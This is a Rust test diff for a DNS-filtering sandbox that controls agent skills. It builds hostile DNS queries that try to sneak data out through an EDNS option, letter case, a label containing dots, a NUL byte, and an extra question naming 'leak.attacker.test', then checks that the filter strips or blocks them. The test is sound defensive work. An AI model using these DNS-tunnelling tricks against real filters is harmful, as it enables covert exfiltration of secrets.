@@ -4,7 +4,7 @@
 
 use std::time::Duration;
 
-use skillgate_tests::{Dnsmasq, Env, PROBE_PY, Probe, Server};
+use skillgate_tests::{DnsServer, Dnsmasq, Env, PROBE_PY, Probe, Server};
 
 /// Where skills send their queries: no server listens there, only the redirect to the
 /// agent's forwarder answers.
@@ -497,4 +497,84 @@ fn an_http_backend_reached_by_upstream_name_gets_that_name_as_its_host() {
         upstream.as_str(),
         "{requests:?}"
     );
+}
+
+/// A DNS message in hex: id 0x5348, RD, the questions given as raw labels (any bytes, dots
+/// included) and type A, then `extra` additional records.
+fn raw_query(questions: &[&[&[u8]]], extra: &[u8], additional: u16) -> String {
+    let mut msg = vec![0x53, 0x48, 0x01, 0x00];
+    msg.extend_from_slice(&(questions.len() as u16).to_be_bytes());
+    msg.extend_from_slice(&[0, 0, 0, 0]);
+    msg.extend_from_slice(&additional.to_be_bytes());
+    for labels in questions {
+        for label in *labels {
+            msg.push(label.len() as u8);
+            msg.extend_from_slice(label);
+        }
+        msg.extend_from_slice(&[0, 0, 1, 0, 1]);
+    }
+    msg.extend_from_slice(extra);
+    msg.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+#[test]
+fn hostile_queries_reach_the_resolver_only_as_the_question_decided() {
+    // A resolver that keeps every datagram it gets: the oracle for what leaves the host.
+    let resolver = DnsServer::start("127.0.0.1:0");
+    let policy = "[[skill]]\nname = \"reporter\"\n\n[[rule]]\nskills = [\"reporter\"]\n\
+                  dns = [\"*.mirror.skillgate.test\"]\neffect = \"allow\"\n";
+    let env = Env::with_config(
+        "dns-hostile",
+        policy,
+        &format!("dns_upstream = [\"{}\"]", resolver.addr),
+    );
+    let _agent = env.start_agent();
+    let canary = b"EXFIL-CANARY-7f3a";
+    // An EDNS OPT record whose option (code 65001) carries the canary.
+    let mut opt = vec![0, 0, 41, 0x04, 0xd0, 0, 0, 0, 0];
+    opt.extend_from_slice(&((canary.len() + 4) as u16).to_be_bytes());
+    opt.extend_from_slice(&[0xfd, 0xe9]);
+    opt.extend_from_slice(&(canary.len() as u16).to_be_bytes());
+    opt.extend_from_slice(canary);
+    let allowed: &[&[u8]] = &[b"FiLeS", b"MiRrOr", b"skillgate", b"test"];
+    let actions: Vec<String> = [
+        // An allowed name whose letter case and EDNS option carry data.
+        raw_query(&[allowed], &opt, 1),
+        // One label holding dots: read as text, it would look like a name under the rule.
+        raw_query(
+            &[&[b"c2VjcmV0.attacker", b"mirror", b"skillgate", b"test"]],
+            &[],
+            0,
+        ),
+        // A label with a NUL byte in it.
+        raw_query(&[&[b"x\0leak", b"mirror", b"skillgate", b"test"]], &[], 0),
+        // Two questions, an allowed one first.
+        raw_query(&[allowed, &[b"leak", b"attacker", b"test"]], &[], 0),
+    ]
+    .iter()
+    .map(|hex| format!("query_hex:{RESOLVER},{hex}"))
+    .collect();
+    let probe = run_probe(&env, "reporter", &actions);
+    assert_eq!(probe.result(0), "ok rcode=0 127.0.0.42");
+    assert_eq!(probe.result(1), "ok rcode=5 ");
+    assert_eq!(probe.result(2), "ok rcode=5 ");
+    assert_eq!(probe.result(3), "ok no-answer");
+    let received = resolver.received();
+    assert_eq!(
+        received.len(),
+        1,
+        "only the decided question left: {received:?}"
+    );
+    let sent = &received[0];
+    assert!(!sent.windows(canary.len()).any(|w| w == canary), "{sent:?}");
+    assert_ne!(
+        sent[..2],
+        [0x53, 0x48],
+        "the skill's id is not the resolver's"
+    );
+    assert!(
+        sent.windows(6).any(|w| w == b"\x05files"),
+        "the name is asked in lower case: {sent:?}"
+    );
+    assert!(!sent.windows(5).any(|w| w == b"FiLeS"));
 }
